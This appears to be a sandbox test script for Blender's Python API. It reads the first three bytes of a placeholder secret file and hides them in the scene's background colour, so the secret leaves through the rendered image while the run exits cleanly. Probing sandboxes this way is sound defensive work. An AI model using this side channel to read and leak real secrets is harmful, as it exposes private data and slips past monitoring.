# mode: os_only
# result: any
# tries: read a secret file and smuggle its first bytes out as the render's pixel colour (exit 0, clean log)
import bpy

data = open("@SECRET_FILE@", "rb").read(3)


def lin(byte):
    c = byte / 255
    return c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4


scene = bpy.context.scene
scene.view_settings.view_transform = "Standard"
scene.render.dither_intensity = 0
world = bpy.data.worlds.new("w")
scene.world = world
world.node_tree.nodes["Background"].inputs["Color"].default_value = [lin(b) for b in data] + [1.0]
cam = bpy.data.objects.new("camera", bpy.data.cameras.new("camera"))
scene.collection.objects.link(cam)
scene.camera = cam
